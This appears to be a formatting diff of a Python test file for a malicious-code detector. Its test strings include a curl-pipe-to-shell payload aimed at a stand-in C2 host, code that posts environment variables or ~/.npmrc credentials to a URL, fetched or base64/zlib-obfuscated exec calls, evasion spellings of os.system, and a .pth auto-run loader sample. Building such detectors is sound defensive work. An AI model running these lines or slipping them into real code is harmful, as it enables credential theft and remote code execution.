@@ -78,7 +78,7 @@ SPELLINGS = {
     "map": "import os\nlist(map(os.system, ['id']))",
     "thread": "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
     "key function": "import os\nsorted(['id'], key=os.system)",
-    "normalised identifier": "import os\nos.𝘀𝘆𝘀𝘁𝗲𝗺('id')",  # noqa: RUF001 - the evasion
+    "normalised identifier": "import os\nos.𝘀𝘆𝘀𝘁𝗲𝗺('id')",
     "continuation": "import os\nos.\\\nsystem('id')",
     "comment inside": "import os\n(os  # nothing\n .  # to see\n system)('id')",
     "carriage return": "x = 1  # harmless\rimport os\ros.system('id')",
@@ -139,8 +139,8 @@ def test_what_is_only_said_is_not_done(text):
 
 PAYLOAD = "import os\nos.system('curl https://c2.invalid/p | sh')\n"
 HARMLESS_STRINGS = [
-    "a = '\"\"\"'",
-    'a = "\'\'\'"',
+    'a = \'"""\'',
+    "a = \"'''\"",
     "a = '#'",
     'a = "# not a comment"',
     "a = r'\\\\'",
@@ -182,7 +182,9 @@ def test_imports_in_functions_are_of_the_call():
 
 
 def test_constants_in_arguments():
-    facts = read("import subprocess\nU = 'https://x.invalid'\nsubprocess.run(['curl', '-o', '/tmp/a', U + '/p'], check=True, timeout=n)")
+    facts = read(
+        "import subprocess\nU = 'https://x.invalid'\nsubprocess.run(['curl', '-o', '/tmp/a', U + '/p'], check=True, timeout=n)"
+    )
     call = facts.calls[0]
     assert call.arguments == ("curl -o /tmp/a https://x.invalid/p", "check=True", None)
     assert facts.hosts == ("x.invalid",)
@@ -207,8 +209,7 @@ def test_unknown_parts_are_holes():
         (f"exec(''.join(chr(c ^ 7) for c in {[c ^ 7 for c in b'print(1) # x']}))", ("xor", "char-codes")),
         (f"import zlib\nexec(zlib.decompress({zlib.compress(b'print(1) # x')!r}))", ("zlib",)),
         (
-            "import zlib, base64\nexec(zlib.decompress(base64.b64decode("
-            f"{base64.b64encode(zlib.compress(b'print(1) # x'))!r})))",
+            f"import zlib, base64\nexec(zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(b'print(1) # x'))!r})))",
             ("zlib", "base64"),
         ),
         ("p = '\\x70\\x72\\x69\\x6e\\x74\\x28\\x31\\x29 # x\\x2e\\x69\\x6e://'\nexec(p)", ("escapes",)),
@@ -229,12 +230,18 @@ def test_an_unexplained_constant_is_guessed():
 
 ORIGINS = {
     "environment": ("import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))", "requests.post"),
-    "environment by name": ("import os, requests\nd = {}\nd['e'] = os.environ\nrequests.post(U, json=d)", "requests.post"),
+    "environment by name": (
+        "import os, requests\nd = {}\nd['e'] = os.environ\nrequests.post(U, json=d)",
+        "requests.post",
+    ),
     "environment through a function": (
         "import os, requests\ndef send(d):\n  requests.post(U, json=d)\nsend({k: v for k, v in os.environ.items()})",
         "requests.post",
     ),
-    "credentials": ("import os, requests\nrequests.post(U, data=open(os.path.expanduser('~/.npmrc')).read())", "requests.post"),
+    "credentials": (
+        "import os, requests\nrequests.post(U, data=open(os.path.expanduser('~/.npmrc')).read())",
+        "requests.post",
+    ),
     "network": ("import urllib.request\nwith urllib.request.urlopen(U) as r:\n  c = r.read()\nexec(c)", "exec"),
     "decoded": ("import base64\ndef d(x):\n  return base64.b64decode(x)\nexec(d(P))", "exec"),
     "file": ("from pathlib import Path\nexec(Path('x').read_text())", "exec"),
@@ -334,7 +341,7 @@ def test_nested_code_of_a_function_that_nobody_calls_is_of_the_call():
 
 def test_pth_file():
     text = (
-        "# a comment\n../other/path\nimport os, subprocess, sys; subprocess.Popen([sys.executable, \"-c\", "
+        '# a comment\n../other/path\nimport os, subprocess, sys; subprocess.Popen([sys.executable, "-c", '
         f"\"import base64; exec(base64.b64decode('{b64('import urllib.request as u; u.urlopen(chr(104))')}'))\"])\nos.system('x')\n"
     )
     facts = read(text, "litellm_init.pth")
